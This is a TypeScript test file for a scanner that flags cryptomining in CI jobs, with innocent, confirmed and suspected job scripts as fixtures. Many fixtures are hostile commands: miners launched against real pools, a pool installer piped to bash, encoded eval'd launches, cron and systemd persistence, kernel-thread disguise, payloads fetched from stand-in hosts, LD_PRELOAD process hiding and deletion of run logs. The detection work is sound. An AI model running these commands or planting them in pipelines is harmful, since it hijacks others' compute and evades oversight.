// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shells write their variables so.
/**
 * Judgement on whole jobs as they are met: what is said of mining without doing it, and what mines.
 * All of them are invented, and every address is made from a seed.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Verdict } from '../model/finding.ts';
import { scanJob, type TestJob } from './test-scanner.ts';
import { testAddress } from './wallet/test-addresses.ts';

const MONERO = testAddress('monero', 21);
const BITCOIN = testAddress('bitcoin', 22);
const DOGE = testAddress('dogecoin', 23);
const ETHEREUM = testAddress('ethereum', 24);
const VERUS = testAddress('base58-R', 25);
const PKT = testAddress('pkt', 26);
const ZEPHYR = testAddress('zephyr', 27);
const DERO = testAddress('dero', 28);
const XELIS = testAddress('xelis', 29);
const NANO = testAddress('nano', 30);
const KASPA = testAddress('kaspa', 31);
const CONFLUX = testAddress('conflux', 32);

const POOL = 'gulf.moneroocean.stream:10128';
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const MINE = `./x -o ${POOL} -u ${MONERO} -p x`;
const CONFIGURATION = JSON.stringify({
  autosave: true,
  'donate-level': 0,
  pools: [{ url: POOL, user: MONERO, pass: 'x' }],
});
const INSTALLER =
  'https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh';
const RELEASE =
  'https://github.com/xmrig/xmrig/releases/download/v6.22.0/xmrig-6.22.0-linux-static-x64.tar.gz';
const FETCHED = 'curl -sLo w https://files.example.com/v1 && chmod +x w';
/** As wide and as often as campaigns ask for. */
const CAMPAIGN = { fanOut: 5, schedules: ['*/20 * * * *'], timeoutSeconds: 21_600 };

type Case = readonly [what: string, job: string | TestJob];

/** None of these may be suspected. */
const INNOCENT: readonly Case[] = [
  // Building and packaging
  [
    'a miner is configured and built',
    'mkdir build && cd build && cmake .. -DWITH_HWLOC=OFF && make -j$(nproc) xmrig',
  ],
  [
    'with its dependencies',
    './scripts/build_deps.sh || true\ncmake -B build -DXMRIG_DEPS=scripts/deps && make',
  ],
  [
    'by autotools',
    './autogen.sh && ./configure --with-crypto CFLAGS="-O3" && make && strip -s cpuminer',
  ],
  [
    'cross-compiled',
    'x86_64-w64-mingw32-strip cpuminer.exe && mv cpuminer.exe bin/win/cpuminer-avx2.exe',
  ],
  [
    'packed as a Debian package',
    'dpkg-buildpackage -us -uc && lintian ../xmrig_6.22.0-1_amd64.changes',
  ],
  ['packed for Arch', 'makepkg -s --noconfirm && namcap xmrig-6.22.0-1-x86_64.pkg.tar.zst'],
  [
    'a recipe of a distribution',
    'wget https://github.com/xmrig/xmrig/archive/refs/tags/v6.22.0.tar.gz && sha256sum -c sums',
  ],
  [
    'a release is uploaded',
    'gh release upload v6.22.0 xmrig-6.22.0-linux-static-x64.tar.gz --clobber',
  ],
  [
    'an image is built and pushed',
    'docker buildx build --platform linux/amd64,linux/arm64 -t someone/xmrig:6 --push .',
  ],
  [
    'an image is signed',
    'cosign sign ghcr.io/someone/xmrig@sha256:abc && syft ghcr.io/someone/xmrig',
  ],
  ['an image only answers', 'docker run --rm someone/xmrig:test --version | grep -q 6.22'],
  ['a chart is packed', 'helm lint charts/xmrig && helm package charts/xmrig'],
  ['a formula is tested', 'brew install --build-from-source xmrig && brew test xmrig'],
  ['static analysis', 'cppcheck --enable=all src/ && clang-tidy src/xmrig.cpp'],
  ['the tests of RandomX', 'cmake -DARCH=native .. && make && ./randomx-tests'],
  ['the benchmark of RandomX', './randomx-benchmark --mine --init 4 --threads 4 --nonces 1000'],
  ['a benchmark suite', 'phoronix-test-suite batch-benchmark pts/xmrig'],
  [
    'a miner measures itself',
    './xmrig --bench=1M && ./xmrig --stress --threads=2 --max-cpu-usage 50',
  ],
  // Nodes, wallets, pools
  ['a node is built', 'make release-static -j2 && ./build/release/bin/monerod --version'],
  [
    'a node under test',
    './monerod --regtest --offline --fixed-difficulty 1 --start-mining $ADDRESS --detach',
  ],
  [
    'functional tests',
    'python3 tests/functional_tests/functional_tests_rpc.py python3 . build mining',
  ],
  [
    'a private chain',
    'geth --dev --http --mine --miner.etherbase 0x0000000000000000000000000000000000000001',
  ],
  [
    'blocks are generated',
    'bitcoin-cli -regtest -rpcwallet=t generatetoaddress 101 "$(bitcoin-cli getnewaddress)"',
  ],
  ['a pool server under test', 'npm ci && node test/stratum.js --url stratum+tcp://127.0.0.1:3333'],
  [
    'a pool in containers',
    'docker compose up -d monerod pool && ./wait-for.sh localhost:3333 && npm test',
  ],
  [
    'a wallet is restored',
    `./monero-wallet-cli --generate-from-view-key w --address ${MONERO} --testnet`,
  ],
  ['addresses are parsed', `cargo test -- --nocapture address::${BITCOIN}`],
  ['addresses are validated', `python3 -m pytest -k validate && ./validate ${ETHEREUM} ${KASPA}`],
  ['an explorer', `curl -s https://explorer.example.com/api/address/${BITCOIN} | jq .balance`],
  ['a price feed', 'curl -s https://api.example.com/v1/price?coin=XMR | jq .usd >> prices.csv'],
  // Detectors, lists, rules
  [
    'a block list is updated',
    'curl -s https://lists.example.com/mining.txt >> pools.txt && sort -u pools.txt -o pools.txt',
  ],
  [
    'a hosts file is written',
    `printf '0.0.0.0 %s\\n' pool.minexmr.com xmr.nanopool.org coinhive.com >> hosts`,
  ],
  ['rules are tested', 'yara -r rules/miner.yar samples/ | grep -c stratum+tcp'],
  [
    'a rule is written',
    `cat > rule.yml <<'E'\ncmd: '*stratum+tcp://*'\nname: [xmrig, minerd]\nE\nsigma check rule.yml`,
  ],
  [
    'a detector is fed',
    'echo "./xmrig -o stratum+tcp://pool.example.com:3333 -u x" | ./detector --stdin',
  ],
  [
    'a tool is given a command line that pays nobody',
    'npx jest -t "finds ./xmrig -o stratum+tcp://pool.example.com:3333 -u x in a script"',
  ],
  ['a command line is noted down', `echo '${MINE}' > notes.txt\nchmod 644 notes.txt`],
  [
    'a detection is simulated',
    'falco-tester --trigger "Detect crypto miners using the Stratum protocol"',
  ],
  ['a firewall', 'for d in supportxmr.com 2miners.com; do iptables -A OUTPUT -d $d -j DROP; done'],
  ['a DNS test', 'dig +short pool.supportxmr.com @127.0.0.1 | grep -q 0.0.0.0'],
  [
    'a process is looked for',
    'ps aux | grep -v grep | grep -E "xmrig|minerd|kdevtmpfsi" && exit 1 || true',
  ],
  ['miners are stopped', 'pkill -9 xmrig; rm -rf /tmp/xmrig /tmp/.X11-unix/xmrig; crontab -r'],
  ['an image is scanned', 'trivy image --exit-code 1 metal3d/xmrig:latest'],
  [
    'secrets are looked for',
    `gitleaks detect --config gl.toml && grep -rn ${MONERO.slice(0, 12)} .`,
  ],
  // Words
  [
    'documentation',
    `cat >> README.md <<'E'\n## Donate\nXMR: ${MONERO}\nBTC: ${BITCOIN}\nE\ngit commit -am docs`,
  ],
  ['a funding file', `echo "custom: ['bitcoin:${BITCOIN}']" > .github/FUNDING.yml`],
  [
    'a page is built',
    {
      scripts: ['npm run build'],
      environment: { DONATION_XMR: MONERO, POOL_SITE: 'supportxmr.com' },
    },
  ],
  ['help is printed', `echo "usage: ./xmrig -o ${POOL} -u YOUR_WALLET -p x" && exit 0`],
  ['a commit message', `git commit -m "docs: explain xmrig -o ${POOL} -u ${MONERO}"`],
  ['a search', 'grep -rn "donate-level" src include && rg "stratum\\+tcp" docs'],
  ['a comment', `# nohup ./xmrig -o ${POOL} -u ${MONERO} &\nmake`],
  [
    'a spelling list',
    'echo xmrig cpuminer stratum nicehash >> .cspell/words.txt && cspell "**/*.md"',
  ],
  ['a translation', `msgfmt po/de.po && echo "Mining-Pool: ${POOL}"`],
  // Look-alikes of shape
  [
    'data mining',
    'python mine.py --algo apriori --threads 8 --url https://data.example.com --user me',
  ],
  ['a verifier', 'verus --crate-type=lib src/lib.rs && cargo test -p verus-solver-tests'],
  [
    'a fuzzer for hours',
    {
      scripts: ['timeout 350m cargo fuzz run parse -- -jobs=4'],
      shape: { ...CAMPAIGN, fanOut: 2 },
    },
  ],
  [
    'chess engines',
    {
      scripts: ['./fishtest --concurrency 4 --url https://tests.example.com --user me'],
      shape: CAMPAIGN,
    },
  ],
  ['a soak test', './server > /dev/null 2>&1 &\nsleep 900\ncurl -sf localhost:8080/healthz'],
  ['a load test', 'k6 run --duration 55m --vus 50 load.js && sleep 600'],
  ['a load test', './loadtest -o https://staging.example.org:8443 -u ci-user.worker7 -p x -t 2'],
  ['a tunnel', './client --server 203.0.113.9:443 --user a --password b --tls -t 2'],
  ['a proxy test', 'curl -x socks5h://203.0.113.9:1080 -o out.html -u me:pw https://example.com'],
  ['an SSH agent', 'ssh -o StrictHostKeyChecking=no -p 2222 root@203.0.113.9 uptime'],
  [
    'a keep-alive workflow',
    {
      scripts: ['git commit --allow-empty -m "keep alive" && git push'],
      shape: { schedules: ['0 0 1 * *'] },
    },
  ],
  [
    'old runs are removed',
    'gh run list --json databaseId -q ".[].databaseId" | xargs -n1 gh run delete',
  ],
  [
    'huge pages for a driver',
    'sudo sysctl -w vm.nr_hugepages=1024 && sudo modprobe msr && ./dpdk-testpmd -l 0-1',
  ],
  ['registers are read', 'sudo modprobe msr && sudo rdmsr -a 0x1a4 && turbostat --show Busy% make'],
  [
    'a wide matrix',
    { scripts: ['cargo nextest run'], shape: { fanOut: 256, timeoutSeconds: 3_600 } },
  ],
  [
    'a tool is fetched and run',
    'curl -Lo kind https://kind.example.com/kind-linux && chmod +x kind && ./kind create cluster',
  ],
  ['an installer', 'curl -sSf https://sh.example.com/rustup | sh -s -- -y'],
  ['a decoded certificate', 'echo "$CERT" | base64 -d > cert.p12 && security import cert.p12'],
  [
    'an encoded script',
    `echo ${base64('mkdir -p build && cd build && cmake ..')} | base64 -d | bash`,
  ],
  ['a memory checker', 'LD_PRELOAD=/usr/lib/libjemalloc.so.2 ./unit-tests --gtest_repeat=10'],
  ['a bandwidth test', 'docker run --rm networkstatic/iperf3 -c speed.example.com -t 30'],
  [
    'a service container',
    {
      scripts: ['npm test'],
      images: ['postgres:17', 'redis:7'],
      environment: { POOL: 'db.example.com:5432', USER: 'app' },
    },
  ],
  ['a miner of a game', 'npm run simulate -- --worker gold-miner --pool 10'],
  ['a scheduler', `echo '0 3 * * * /usr/local/bin/backup.sh --user root' | crontab -`],
];

/** Somebody is paid, and it runs. */
const CONFIRMED: readonly Case[] = [
  ['a command line that a tool is given in one word', `ansible all -m shell -a '${MINE}'`],
  ['a setting of a tool', `apt-get -o APT::Update::Pre-Invoke::='${MINE}' update`],
  ['input of a program of the job', `echo '${MINE}' | ./reader`],
  ['input of a tool that runs lines', `sqlite3 a.db <<'E'\n.shell ${MINE}\nE`],
  ['a file that is made a program', `echo '${MINE}' > d/a\nchmod +x d/a\nrun-parts d`],
  [
    'a variable of the job that a shell runs',
    { scripts: ['bash -i'], environment: { PROMPT_COMMAND: MINE } },
  ],
  ['the plain one', `./xmrig -o ${POOL} -u ${MONERO} -p x`],
  ['long options', `./xmrig --url=${POOL} --user=${MONERO}.gh7 --pass=x --donate-level=1`],
  [
    'a one-letter program',
    `wget -qO x https://a.test/x; chmod +x x; ./x -o ${POOL} -u ${MONERO} -p w1`,
  ],
  [
    'a worker of the runner',
    `cp xmrig Runner.Worker && ./Runner.Worker -o ${POOL} -u ${MONERO} -p x`,
  ],
  ['as a kernel thread', `exec -a "[kworker/0:1]" ./k -o 203.0.113.7:443 -u ${MONERO} -p x`],
  ['held to a share', `cpulimit -l 60 -- ./xmrig -o ${POOL} -u ${MONERO} -p x`],
  ['for as long as it may', `timeout 350m ./xmrig -o ${POOL} -u ${MONERO} -p x || true`],
  ['in the background', `nohup ./xmrig -o ${POOL} -u ${MONERO} >/dev/null 2>&1 &\nsleep 3300`],
  ['in a detached screen', `screen -dmS w ./xmrig -o ${POOL} -u ${MONERO} -p x`],
  [
    'duty cycle',
    `for i in 1 2 3; do timeout 1800 ./xmrig -o ${POOL} -u ${MONERO} -p x; sleep 300; done`,
  ],
  ['through a proxy', `graftcp ./xmrig -o ${POOL} -u ${MONERO} -p x`],
  [
    'another coin is paid out',
    `./x -a rx/0 -o rx.unmineable.com:443 -u DOGE:${DOGE}.ci-1#aaaa-bbbb -p x`,
  ],
  ['in nano', `./x -o xmrig.nanswap.com:443 -u ${NANO}.w -p x`],
  [
    'in a coin without a checksum',
    './x -o rx.unmineable.com:3333 -u SHIB:0xa1b2a1b2a1b2a1b2a1b2a1b2a1b2a1b2a1b2a1b2.w -p x',
  ],
  [
    'by a secret wallet and a coin',
    './x -o rx.unmineable.com:3333 -u "BTC:${{ secrets.W }}.rig7" -p x'.replace(
      '${{ secrets.W }}',
      '$W',
    ),
  ],
  [
    'by a password',
    './cpuminer -a yespower -o stratum+tcp://yespower.eu.mine.zpool.ca:6234 -u $W -p c=BTC',
  ],
  ['by an e-mail address', './xmrig -o xmr.pool.minergate.com:45700 -u me@example.com -p x'],
  ['Verus', `./hellminer -c stratum+tcp://eu.luckpool.net:3956 -u ${VERUS}.w1 -p x --cpu 4`],
  [
    'Verus with ccminer',
    `./ccminer -a verus -o stratum+tcp://na.luckpool.net:3956 -u ${VERUS}.w -p x -t 2`,
  ],
  ['Zephyr', `./xmrig --coin zephyr -o de.zephyr.herominers.com:1123 -u ${ZEPHYR} -p x`],
  ['Dero', `./astrominer -w ${DERO} -r community-pools.mysrv.cloud:10300 -p rpc`],
  [
    'Xelis',
    `./SRBMiner-MULTI --algorithm xelishashv2 --pool xelis.example.com:1225 --wallet ${XELIS}`,
  ],
  ['Conflux', `./t-rex -a octopus -o stratum+tcp://cfx.f2pool.com:6800 -u ${CONFLUX}.w -p x`],
  ['Kaspa', `./lolMiner --algo KASPA --pool stratum+tcp://kas.example.com:5555 --user ${KASPA}.w`],
  ['PKT', `./packetcrypt ann -p ${PKT} http://pool.pkt.world http://pool.example.com/`],
  ['a node mines for itself', `monerod --start-mining ${MONERO} --mining-threads 2 --detach`],
  ['a container', `docker run -d --rm miningcontainers/xmrig -o ${POOL} -u ${MONERO} -p x`],
  ['a container by variables', `docker run -d -e POOL_USER=${MONERO} metal3d/xmrig`],
  [
    'the image of the job',
    { scripts: ['true'], images: ['metal3d/xmrig'], environment: { POOL_USER: MONERO } },
  ],
  ['a configuration', `cat > config.json <<'E'\n${CONFIGURATION}\nE\n./xmrig`],
  ['an innocent name for it', `echo '${CONFIGURATION}' > app.json\n./svc --config=app.json`],
  ['in variables', `P=${POOL}; W=${MONERO}\n./run -o $P -u $W -p x`],
  [
    'in the environment',
    { scripts: ['./run -o "$P" -u "$W" -p x'], environment: { P: POOL, W: MONERO } },
  ],
  ['in pieces', `a=xm; b=rig; c=gulf.moneroocean; ./$a$b -o $c.stream:10128 -u ${MONERO} -p x`],
  ['once encoded', `echo ${base64(`./xmrig -o ${POOL} -u ${MONERO}`)} | base64 -d | bash`],
  ['twice encoded', `echo ${base64(`echo ${base64(MINE)} | base64 -d | sh`)} | base64 -d | sh`],
  ['behind eval', `eval "$(echo ${base64(`./x -o ${POOL} -u ${MONERO} -p x`)} | base64 -d)"`],
  ['in a script that it writes', `cat > t.sh <<'E'\n./xmrig -o ${POOL} -u ${MONERO}\nE\nbash t.sh`],
  ['by a timer', `(crontab -l; echo "@reboot /tmp/k -o ${POOL} -u ${MONERO} -p x") | crontab -`],
  [
    'as a service',
    `cat > /etc/systemd/system/w.service <<E\n[Service]\nExecStart=${MINE}\nE\nsystemctl start w`,
  ],
  ["by the pool's installer", `curl -sL ${INSTALLER} | bash -s ${MONERO}`],
  [
    'from Python',
    {
      scripts: [
        `import subprocess as s\ns.run(["./xmrig","-o","stratum+tcp://a.test:1","-u","${MONERO}"])`,
      ],
      shell: 'python',
    },
  ],
  [
    'in PowerShell',
    {
      scripts: [`Start-Sleep 5\n.\\xmrig.exe -o ${POOL} -u ${MONERO}`],
      shell: 'powershell',
    },
  ],
];

/** It mines or does as miners do, and whom it pays is not in the text. */
const SUSPECTED: readonly Case[] = [
  ['a relay and no wallet', './node-agent -o 203.0.113.9:443 -u root -p x -k --tls'],
  ['a relay by a dynamic name', './haproxy -o build.example.duckdns.org:443 -u ci -p x -t 2'],
  [
    'a relay in a configuration',
    `echo '{"pools":[{"url":"203.0.113.9:443","user":"root","pass":"x"}]}' > a.json\n./svc -c a.json`,
  ],
  ['all of it secret', 'xmrig -o $POOL -u $WALLET -p x --donate-level 1'],
  ['a user of a known pool', './x -o eu.luckpool.net:3956 -u account.worker7 -p x'],
  [
    'a release is fetched and run',
    `wget ${RELEASE}\ntar xf xmrig-6.22.0-linux-static-x64.tar.gz\n./xmrig-6.22.0/xmrig`,
  ],
  ['built and run', 'git clone https://github.com/xmrig/xmrig && cd xmrig && make && ./xmrig &'],
  ['tuned and run', 'sudo wrmsr -a 0x1a4 0xf\nsudo sysctl -w vm.nr_hugepages=1280\n./xmrig'],
  ['an image', { scripts: ['true'], images: ['metal3d/xmrig'] }],
  [
    'Duino-Coin',
    'git clone https://github.com/revoxhere/duino-coin && cd duino-coin && python3 PC_Miner.py',
  ],
  ['a client of Qubic', './qli-Client --accesstoken $T --alias w1 --threads 2'],
  ['an account of a prover', './aleo-pool-prover --account_name ci --pool aleo.example.com:4420'],
  ['bandwidth by an image', 'docker run -d traffmonetizer/cli_v2 start accept --token $TOKEN'],
  ['bandwidth by a program', './pawns-cli -email=$E -password=$P -device-name=ci -accept-tos &'],
  [
    'bandwidth by the image of a job',
    {
      scripts: ['true'],
      images: ['honeygain/honeygain'],
      environment: { EMAIL: 'me@example.com' },
    },
  ],
  [
    'an opaque payload: hidden, kept alive, and at every twenty minutes',
    {
      scripts: [
        `${FETCHED}\nnohup ./w >/dev/null 2>&1 &\nsleep 5; rm -f w\nsleep 3300\ngh run delete 1`,
      ],
      shape: CAMPAIGN,
    },
  ],
  [
    'an opaque payload under the name of the runner',
    {
      scripts: [
        'curl -sLo Runner.Listener https://203.0.113.9/a && chmod +x Runner.Listener\n' +
          'setsid ./Runner.Listener\nwhile true; do sleep 60; done',
      ],
      shape: CAMPAIGN,
    },
  ],
  [
    'a hidden payload',
    `${FETCHED}\nexport LD_PRELOAD=/tmp/libprocesshider.so\n./w & sleep 20; rm w\nsleep 3000`,
  ],
];

const EXPECTED: readonly (readonly [readonly Verdict[], readonly Case[]])[] = [
  [['clear', 'unchecked'], INNOCENT],
  [['confirmed'], CONFIRMED],
  [['suspected'], SUSPECTED],
];

for (const [verdicts, cases] of EXPECTED) {
  for (const [what, job] of cases) {
    test(`${verdicts.join(' or ')}: ${what}`, () => {
      const report = scanJob(typeof job === 'string' ? { scripts: [job] } : job);
      assert.ok(verdicts.includes(report.verdict), JSON.stringify(report, null, 1));
    });
  }
}

test('there are enough of each', () => {
  assert.ok(INNOCENT.length >= 60);
  assert.ok(CONFIRMED.length + SUSPECTED.length >= 60);
});

test('a circumstance alone is not shown, and in company it weighs', () => {
  const alone = scanJob({ scripts: ['./server & sleep 3600'] });
  assert.deepEqual([alone.findings, alone.bits], [[], 0]);
  const beside = scanJob({ scripts: [`${FETCHED}\n./w & sleep 3600`] });
  assert.ok(beside.findings.some(({ rule }) => rule === 'keep-alive'));
  assert.equal(beside.verdict, 'unchecked');
});

test('many commands of what the rules compare with one another take a bounded time', () => {
  for (const line of [
    './w & sleep 2; rm -f w',
    'sleep 60',
    'while true; do sleep 1; done',
    'cp a b; ./b -t 2 --cpu-priority 5',
    'timeout 350m ./w',
    'curl -o w https://a.test/w; chmod +x w; ./w &',
    'gh run delete 1; history -c',
  ]) {
    const script = `${FETCHED}\n./w &\n${`${line}\n`.repeat(3_000)}`;
    const started = performance.now();
    scanJob({ scripts: [script], shape: CAMPAIGN });
    const elapsed = performance.now() - started;
    assert.ok(elapsed < 4_000, `${elapsed} ms for ${line}`);
  }
});

test('what weighs enough to be held: a published image, and a fetched release that is run', () => {
  const release = 'https://github.com/xmrig/xmrig/releases/download/v6/xmrig-6-linux-x64.tar.gz';
  const fetched = scanJob({
    scripts: [`curl -sL ${release} | tar xz`, './xmrig-6/xmrig -c a.json'],
  });
  assert.deepEqual([fetched.verdict, fetched.executedBits], ['suspected', 12]);
  for (const image of ['metal3d/xmrig', 'registry.example.com/hub/kannix/monero-miner:1']) {
    const report = scanJob({ scripts: ['true'], images: [image] });
    assert.deepEqual([report.verdict, report.executedBits], ['suspected', 12], image);
  }
});

test('an address that a miner of the job may read counts as its own', () => {
  for (const given of [
    `sed -i 's/WALLET/${MONERO}/' config.json`,
    `jq '.pools[0].user="${MONERO}"' a.json > b.json`,
    `export WALLET=${MONERO}`,
  ]) {
    assert.equal(scanJob({ scripts: [`${given}\n./xmrig -c b.json`] }).executedBits, 15, given);
    assert.equal(scanJob({ scripts: [`${given}\n./xmrig --version`] }).verdict, 'clear', given);
  }
  const shown = scanJob({ scripts: [`echo 'donate to ${MONERO}'\n./xmrig -c b.json`] });
  assert.equal(shown.verdict, 'clear');
});
